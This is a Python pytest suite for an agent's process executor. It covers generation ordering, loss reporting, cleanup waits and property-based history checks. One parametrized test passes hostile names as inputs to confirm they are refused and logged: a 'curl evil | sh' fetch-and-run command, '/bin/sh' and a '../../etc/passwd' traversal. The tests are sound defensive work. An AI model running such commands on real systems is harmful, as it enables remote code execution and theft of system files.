"""The executor: what is wanted runs, each generation once, one at a time, and nothing else."""

from __future__ import annotations

from typing import TYPE_CHECKING

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from agent.decisions.shared import ItemReport, ItemsReported, Step, Want
from agent.run import executor as executor_module
from agent.run.executor import Executor

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from agent.run.executor import Clear, OnProgress, Runner

NAMES = ("data", "retriever")


class Things:
    """Things that run until they are told how to end, and take a moment to be stopped."""

    def __init__(self) -> None:
        self.began: list[str] = []
        self.alive: list[str] = []
        self.says: dict[str, OnProgress] = {}
        self._ends: dict[str, str] = {}
        self.leaves: set[str] = set()
        """What leaves something that resists."""
        self._news = anyio.Event()

    def runner_of(self, name: str) -> Runner | None:
        """Return the runner of a name of the plan."""
        return self.run if name in NAMES else None

    async def run(self, name: str, _want: Want, progress: OnProgress) -> str:
        """Run until an end is set."""
        assert name not in self.alive, "two of one name"
        self.began.append(name)
        self.alive.append(name)
        self.says[name] = progress
        self._ends.pop(name, None)
        try:
            while name not in self._ends:
                await self._news.wait()
        finally:
            with anyio.CancelScope(shield=True):
                await anyio.lowlevel.checkpoint()
            self.alive.remove(name)
        return self._ends[name]

    def clear_of(self, name: str) -> Clear | None:
        """Return what ends the rest of a thing that leaves something."""

        async def clear(progress: OnProgress) -> None:
            progress(doubt="a process cannot be ended")
            while name in self.leaves:
                await self._news.wait()

        return clear if name in self.leaves else None

    async def is_gone(self, name: str) -> None:
        """Let nothing be left of a thing any more."""
        self.leaves.discard(name)
        self._news.set()
        self._news = anyio.Event()
        await anyio.wait_all_tasks_blocked()

    async def end(self, name: str, failure: str) -> None:
        """Let a thing end."""
        self._ends[name] = failure
        self._news.set()
        self._news = anyio.Event()
        await anyio.wait_all_tasks_blocked()


def story(tell: Callable[[Executor, Things, list[ItemsReported]], Awaitable[None]]) -> None:
    """Run a story with an executor, which is closed at its end."""
    things, sent = Things(), list[ItemsReported]()

    async def scenario() -> None:
        with anyio.fail_after(20):
            async with anyio.create_task_group() as tasks:
                executor = Executor(tasks, things.runner_of, sent.append, things.clear_of)
                await tell(executor, things, sent)
                await executor.close()
                assert things.alive == []

    anyio.run(scenario)


def test_a_service_from_its_start_to_its_next_generation() -> None:
    """Each change is reported, the last end too; a generation starts once."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        things.says["retriever"](Step.PENDING, "connection refused")
        things.says["retriever"](Step.READY, "")
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        assert things.alive == ["retriever"]
        await things.end("retriever", "exit code 1")
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        assert things.began == ["retriever"]
        executor.apply({"retriever": Want(2)})
        await anyio.wait_all_tasks_blocked()
        assert things.began == ["retriever"] * 2
        assert [one.items for one in sent] == [
            (ItemReport("retriever", Step.PENDING, "", 1, is_running=True),),
            (ItemReport("retriever", Step.PENDING, "connection refused", 1, is_running=True),),
            (ItemReport("retriever", Step.READY, "", 1, is_running=True),),
            (ItemReport("retriever", Step.LOST, "exit code 1", 1),),
            (ItemReport("retriever", Step.PENDING, "", 2, is_running=True),),
        ]

    story(tell)


def test_a_later_generation_waits_for_the_end_of_the_former() -> None:
    """What is stopped keeps its port until nothing is left of it."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        executor.apply({"retriever": Want(3)})
        assert things.alive == ["retriever"]
        await anyio.wait_all_tasks_blocked()
        assert things.began == ["retriever"] * 2
        (stopped,) = sent[1].items
        assert (stopped.step, stopped.was_stopped, stopped.generation) == (Step.LOST, True, 1)
        (again,) = sent[2].items
        assert (again.is_running, again.generation) == (True, 3)

    story(tell)


def test_an_end_is_reported_at_once_and_the_next_start_waits_until_nothing_is_left() -> None:
    """Decisions about a loss need the end, a start needs that it is over."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        things.leaves.add("retriever")
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        await things.end("retriever", "exit code 1")
        executor.apply({"retriever": Want(2)})
        await anyio.wait_all_tasks_blocked()
        ended = ItemReport("retriever", Step.LOST, "exit code 1", is_running=True)
        doubted = replace(ended, doubt="a process cannot be ended")
        assert [item for one in sent[-2:] for item in one.items] == [ended, doubted]
        await things.is_gone("retriever")
        assert sent[-2].items == (replace(doubted, is_running=False),)
        assert sent[-1].items == (
            ItemReport("retriever", Step.PENDING, generation=2, is_running=True),
        )

    story(tell)


def test_the_end_of_the_node_does_not_wait_for_what_is_left() -> None:
    """It ends with the agent, as all descendants do."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        things.leaves = {*NAMES}
        executor.apply({"data": Want(), "retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        await things.end("data", "exit code 1")
        await executor.close()
        assert not any(item.is_running for item in sent[-1].items)

    story(tell)


def test_what_is_wanted_no_more_ends_and_its_report_stays() -> None:
    """A step that is done is ready, and so reported as long as the agent runs."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        executor.apply({"data": Want(), "retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        await things.end("data", "")
        executor.apply({})
        await anyio.wait_all_tasks_blocked()
        assert things.alive == []
        assert [(item.name, item.step) for item in sent[-1].items] == [
            ("data", Step.READY),
            ("retriever", Step.LOST),
        ]

    story(tell)


def test_what_is_to_be_over_ends_or_never_begins() -> None:
    """Its end is reported, also where it had not begun: the head waits for it."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        executor.apply({"retriever": Want()})
        await anyio.wait_all_tasks_blocked()
        executor.apply({"retriever": Want(is_over=True), "data": Want(3, is_over=True)})
        await anyio.wait_all_tasks_blocked()
        assert things.began == ["retriever"]
        assert [(item.name, item.generation) for item in sent[-1].items] == [
            ("retriever", 1),
            ("data", 3),
        ]
        for item in sent[-1].items:
            assert (item.step, item.was_stopped, item.is_running) == (Step.LOST, True, False)

    story(tell)


@pytest.mark.parametrize(
    "name",
    ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", "RETRIEVER"],
)
def test_whoever_answers_as_the_head_can_run_nothing_else(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that is not in this node's plan is refused, logged once, and reported."""
    said: list[str] = []
    monkeypatch.setattr(executor_module, "say", lambda line, _level: said.append(line))

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        executor.apply({name: Want()})
        executor.apply({name: Want()})
        await anyio.wait_all_tasks_blocked()
        assert things.began == []
        (item,) = sent[-1].items
        assert (item.step, item.evidence) == (
            Step.LOST,
            f"this node's plan has no {name!r} to run",
        )

    story(tell)
    (line,) = said
    assert line.startswith("what the head wants is refused")


WANTS = st.dictionaries(st.sampled_from(NAMES), st.integers(1, 4).map(Want))
ENDS = st.tuples(st.sampled_from(NAMES), st.sampled_from(["", "exit code 1"]))


@given(st.lists(st.one_of(WANTS, ENDS)), WANTS)
def test_any_history_ends_in_what_is_wanted_last(
    history: list[dict[str, Want] | tuple[str, str]], last: dict[str, Want]
) -> None:
    """No generation starts twice or beside another; repeated and old messages change nothing."""

    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
        for one in (*history, last, last):
            if isinstance(one, dict):
                executor.apply(one)
            else:
                await things.end(*one)

        def is_settled() -> bool:
            now = {item.name: item for item in sent[-1].items} if sent else {}
            running = {name for name, item in now.items() if item.is_running}
            begun = [name for name in last if name in now]
            begun = [name for name in begun if now[name].generation >= last[name].generation]
            return running == {*things.alive} and running <= {*last} and {*begun} == {*last}

        while not is_settled():  # what is stopped takes a moment
            await anyio.lowlevel.checkpoint()
        starts = [
            (item.name, item.generation)
            for former, after in zip([ItemsReported(()), *sent], sent, strict=False)
            for item in after.items
            if item.is_running and item not in former.items and item.step is Step.PENDING
        ]
        assert len(starts) == len({*starts})

    story(tell)
